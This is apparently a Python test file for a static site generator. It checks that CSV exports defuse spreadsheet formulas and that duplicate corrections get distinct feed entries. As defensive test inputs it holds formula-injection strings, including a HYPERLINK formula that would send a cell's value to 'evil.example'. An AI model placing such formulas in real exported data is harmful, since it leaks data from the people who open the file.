"""The files that are not pages: CSV cells a spreadsheet cannot run, one feed entry per correction."""

from __future__ import annotations

import csv
import io

from sitegen.site.feeds import correction_entries, csv_cell, other_files
from sitegen.site.plan import build_edition, plan_pages

from .test_load import briefing, load


def test_text_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_exact() -> None:
    assert [csv_cell(v) for v in ('=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx")] == [
        '\'=HYPERLINK("http://x")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in (1500, 0, 2.5, "plain", None, ["=a", "b"])] == [
        "1500",
        "0",
        "2.5",
        "plain",
        "",
        "'=a b",
    ]


def test_a_figure_label_with_a_formula_reaches_the_csv_as_text() -> None:
    extra = (
        'figures:\n  - {id: f, value: 37, label: "=HYPERLINK(\\"https://evil.example/\\"&A1)",'
        " as_of: 2024-09-16, sources: shared}\n"
    )
    model = load({"briefings/a.md": briefing(extra=extra)})
    assert not model.errors, model.errors
    editions = [build_edition(model, "")]
    files = other_files(model, editions, plan_pages(model, editions), {"en": lambda *a, **k: "x"})
    rows = list(csv.DictReader(io.StringIO(files["data/figures.csv"]().decode())))
    assert rows[0]["label"].startswith("'=HYPERLINK") and rows[0]["value"] == "37"


def test_two_identical_corrections_are_two_entries_with_two_ids() -> None:
    extra = "corrections: [{date: 2024-09-20, text: Same.}, {date: 2024-09-20, text: Same.}]\n"
    model = load({"briefings/a.md": briefing(extra=extra)})
    assert not model.errors, model.errors
    entries = correction_entries(build_edition(model, ""), lambda **k: "t")
    assert sorted(e[0] for e in entries) == ["briefings/a/#correction-1", "briefings/a/#correction-2"]
